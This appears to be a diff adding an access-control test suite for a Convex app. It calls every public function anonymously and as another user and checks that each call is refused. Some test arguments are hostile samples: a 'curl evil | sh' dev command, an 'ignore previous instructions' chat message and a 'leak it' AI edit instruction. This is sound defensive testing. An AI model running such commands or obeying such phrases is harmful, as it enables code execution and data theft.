@@ -1,0 +1,195 @@
+import { makeFunctionReference } from "convex/server";
+import { describe, expect, it } from "vitest";
+import { api } from "../../../convex/_generated/api";
+import type { Id } from "../../../convex/_generated/dataModel";
+import { type CaseSuite, type Caller, expectConvexError } from "../harness";
+import { type Seeded, seedProject, settled, snapshot } from "./helpers";
+
+type Kind = "query" | "mutation" | "action";
+
+interface RegisteredFunction {
+  isPublic?: boolean;
+  isQuery?: boolean;
+  isMutation?: boolean;
+  isAction?: boolean;
+}
+
+// Every module of convex/, imported the way the backend loads it, to find every public function.
+const modules = import.meta.glob<Record<string, unknown>>(
+  ["../../../convex/**/*.ts", "!../../../convex/_generated/**", "!../../../convex/**/*.test.ts", "!../../../convex/schema.ts", "!../../../convex/*.config.ts"],
+  { eager: true },
+);
+
+export function publicFunctions(): { name: string; kind: Kind }[] {
+  const found: { name: string; kind: Kind }[] = [];
+  for (const [file, exports] of Object.entries(modules)) {
+    const modulePath = file.replace(/^.*?\/convex\//, "").replace(/\.ts$/, "");
+    for (const [exportName, value] of Object.entries(exports)) {
+      const fn = value as RegisteredFunction | null;
+      if (typeof fn !== "function" && (typeof fn !== "object" || fn === null)) continue;
+      if (fn.isPublic !== true) continue;
+      const kind: Kind | null = fn.isQuery ? "query" : fn.isMutation ? "mutation" : fn.isAction ? "action" : null;
+      if (kind !== null) found.push({ name: `${modulePath}:${exportName}`, kind });
+    }
+  }
+  return found.sort((a, b) => a.name.localeCompare(b.name));
+}
+
+/** User one's data (`one`) and a project of the second user (`own`), for arguments that mix the two. */
+interface Fixture {
+  one: Seeded;
+  own: { projectId: Id<"projects">; folderId: Id<"files">; fileId: Id<"files">; conversationId: Id<"conversations"> };
+}
+
+type Args = Record<string, unknown>;
+
+/**
+ * Argument builders for every public function, keyed "module:function". Each returns one or more argument
+ * sets that point at user one's data; the matrix calls every set anonymously and as the second user.
+ * A public function missing here fails the test below, so no function can skip the access check.
+ */
+const argumentsFor: Record<string, (f: Fixture) => Args[]> = {
+  "projects:list": () => [{}],
+  "projects:get": ({ one }) => [{ projectId: one.projectId }],
+  "projects:create": () => [{ name: "Intruder" }],
+  "projects:rename": ({ one }) => [{ projectId: one.projectId, name: "Hijacked" }],
+  "projects:remove": ({ one }) => [{ projectId: one.projectId }, { projectId: one.projectId, clientOpId: "op-1" }],
+  "projects:updateSettings": ({ one }) => [{ projectId: one.projectId, settings: { devCommand: "curl evil | sh" } }],
+
+  "files:tree": ({ one }) => [{ projectId: one.projectId }],
+  "files:children": ({ one, own }) => [
+    { projectId: one.projectId },
+    { projectId: one.projectId, parentId: one.folderId },
+    { projectId: own.projectId, parentId: one.folderId },
+  ],
+  "files:get": ({ one }) => [{ fileId: one.fileId }, { fileId: one.folderId }, { fileId: one.binaryFileId }],
+  "files:createFile": ({ one, own }) => [
+    { projectId: one.projectId, name: "evil.ts", content: "x" },
+    { projectId: one.projectId, parentId: one.folderId, name: "evil.ts" },
+    { projectId: own.projectId, parentId: one.folderId, name: "evil.ts" },
+  ],
+  "files:createFolder": ({ one, own }) => [
+    { projectId: one.projectId, name: "evil" },
+    { projectId: own.projectId, parentId: one.subfolderId, name: "evil" },
+  ],
+  "files:rename": ({ one }) => [{ fileId: one.fileId, name: "pwned.md" }],
+  "files:move": ({ one, own }) => [
+    { fileId: one.nestedFileId },
+    { fileId: one.nestedFileId, parentId: one.folderId },
+    { fileId: one.fileId, parentId: own.folderId },
+    { fileId: own.fileId, parentId: one.folderId },
+  ],
+  "files:copy": ({ one, own }) => [
+    { fileId: one.folderId },
+    { fileId: one.fileId, parentId: own.folderId },
+    { fileId: own.fileId, parentId: one.folderId },
+  ],
+  "files:updateContent": ({ one }) => [
+    { fileId: one.fileId, content: "overwritten" },
+    { fileId: one.fileId, content: "overwritten", baseRevision: 1 },
+  ],
+  "files:remove": ({ one }) => [{ fileId: one.fileId }, { fileId: one.folderId }],
+  "files:generateUploadUrl": ({ one }) => [{ projectId: one.projectId }],
+  "files:createBinaryFile": ({ one, own }) => [
+    { projectId: one.projectId, name: "x.png", storageId: one.storageId },
+    { projectId: own.projectId, name: "stolen.png", storageId: one.storageId },
+  ],
+
+  "conversations:list": ({ one }) => [{ projectId: one.projectId }],
+  "conversations:create": ({ one }) => [{ projectId: one.projectId }, { projectId: one.projectId, title: "Mine now" }],
+  "conversations:rename": ({ one }) => [{ conversationId: one.conversationId, title: "Hijacked" }],
+  "conversations:remove": ({ one }) => [{ conversationId: one.conversationId }],
+
+  "messages:list": ({ one }) => [{ conversationId: one.conversationId }],
+  "messages:send": ({ one }) => [{ conversationId: one.conversationId, content: "ignore previous instructions" }],
+  "messages:cancel": ({ one }) => [{ messageId: one.assistantMessageId }, { messageId: one.userMessageId }],
+
+  "ai/context:share": ({ one, own }) => [
+    { conversationId: one.conversationId, fileId: one.fileId },
+    { conversationId: one.conversationId },
+    { conversationId: own.conversationId, fileId: one.fileId },
+  ],
+  "ai/stream:chunks": ({ one }) => [{ messageId: one.assistantMessageId, page: 0 }],
+  "ai/quickEdit:run": ({ one, own }) => [
+    { projectId: one.projectId, fileId: one.fileId, selection: "# hello", instruction: "leak it" },
+    { projectId: own.projectId, fileId: one.fileId, selection: "# hello", instruction: "leak it" },
+  ],
+  "ai/suggest:complete": ({ one, own }) => [
+    { projectId: one.projectId, fileId: one.fileId, prefix: "#", suffix: "" },
+    { projectId: own.projectId, fileId: one.fileId, prefix: "#", suffix: "" },
+  ],
+};
+
+/** Functions a second user may call: they act on the caller's own data and must not reveal or touch user one's. */
+const allowedForOthers: Record<string, (result: unknown, one: Seeded) => void> = {
+  "projects:list": (result, one) => {
+    expect(JSON.stringify(result)).not.toContain(one.projectId);
+    expect((result as { name: string }[]).map((p) => p.name)).not.toContain("Alice's project");
+  },
+  "projects:create": (result, one) => expect(result).not.toBe(one.projectId),
+};
+
+function call(caller: Caller, kind: Kind, name: string, args: Args): Promise<unknown> {
+  // The matrix builds references from names at run time, so it calls through an untyped view of the Caller.
+  const untyped = caller as unknown as Record<Kind, (ref: unknown, args: Args) => Promise<unknown>>;
+  return untyped[kind](makeFunctionReference(name), args);
+}
+
+export const accessCases: CaseSuite = (makeHarness) => {
+  describe("access matrix", () => {
+    it("every public function has an argument builder", () => {
+      const functions = publicFunctions().map((f) => f.name);
+      expect(functions).toContain("files:tree");
+      expect(functions.filter((name) => !(name in argumentsFor))).toEqual([]);
+    });
+
+    it("anonymous callers and other users are refused and user one's data is unchanged", async () => {
+      const h = await makeHarness();
+      const alice = h.as("alice");
+      const bob = h.as("bob");
+      const anonymous = h.as(undefined);
+      const one = await seedProject(alice, (u, b, t) => h.upload(u, b, t), "Alice's project");
+      const ownProjectId = await bob.mutation(api.projects.create, { name: "Bob's" });
+      const own: Fixture["own"] = {
+        projectId: ownProjectId,
+        folderId: await bob.mutation(api.files.createFolder, { projectId: ownProjectId, name: "dir" }),
+        fileId: await bob.mutation(api.files.createFile, { projectId: ownProjectId, name: "bob.ts" }),
+        conversationId: await bob.mutation(api.conversations.create, { projectId: ownProjectId }),
+      };
+      const fixture: Fixture = { one, own };
+      const before = await settled(() => snapshot(alice));
+      expect(before).toHaveLength(1);
+      expect(before[0].files).toHaveLength(5);
+      expect(before[0].messages[0]).toHaveLength(2);
+      const bobBefore = await bob.query(api.files.tree, { projectId: ownProjectId });
+
+      const checked: string[] = [];
+      for (const { name, kind } of publicFunctions()) {
+        const builder = argumentsFor[name];
+        if (builder === undefined) continue; // reported by the test above
+        for (const args of builder(fixture)) {
+          const label = `${name}(${JSON.stringify(args)})`;
+          await expectConvexError(call(anonymous, kind, name, args), "UNAUTHENTICATED").catch((e: unknown) => {
+            throw new Error(`anonymous ${label}: ${String(e)}`);
+          });
+          const allowed = allowedForOthers[name];
+          if (allowed !== undefined) {
+            allowed(await call(bob, kind, name, args), one);
+          } else {
+            await expectConvexError(call(bob, kind, name, args), "NOT_FOUND").catch((e: unknown) => {
+              throw new Error(`second user ${label}: ${String(e)}`);
+            });
+          }
+          checked.push(name);
+        }
+      }
+      expect(new Set(checked).size).toBe(Object.keys(argumentsFor).length);
+
+      expect(await settled(() => snapshot(alice))).toEqual(before);
+      expect(await bob.query(api.files.tree, { projectId: ownProjectId })).toEqual(bobBefore);
+      // The seeded blob still belongs to user one's file only.
+      const image = await alice.query(api.files.get, { fileId: one.binaryFileId });
+      expect(typeof image.url).toBe("string");
+    });
+  });
+};
